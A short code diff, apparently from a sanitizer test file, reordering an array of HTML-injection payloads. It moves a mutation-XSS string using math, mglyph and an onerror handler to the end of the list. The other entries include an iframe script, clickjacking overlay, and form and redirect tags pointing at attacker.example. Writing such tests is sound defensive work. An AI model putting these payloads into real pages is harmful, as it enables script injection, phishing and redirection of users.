@@ -127,9 +127,10 @@ const ATTACKS = [
   '<iframe srcdoc="<script>parent.__hostile = \'iframe\'</script>"></iframe>',
   '<form action="https://attacker.example/" id="hostile-form"><input name="seed"><button>Send</button></form>',
   '<style>body { display: none }</style>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hostile=1&gt;">',
   '<p style="position:fixed;inset:0;z-index:9999" onclick="window.__hostile = \'click\'">cover</p>',
   '<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
+  // The last one: what follows it is swallowed by the elements that it leaves open.
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hostile=1&gt;">',
 ]
 
 /** What somebody who broke into the backend would publish; each part would leave a trace. */
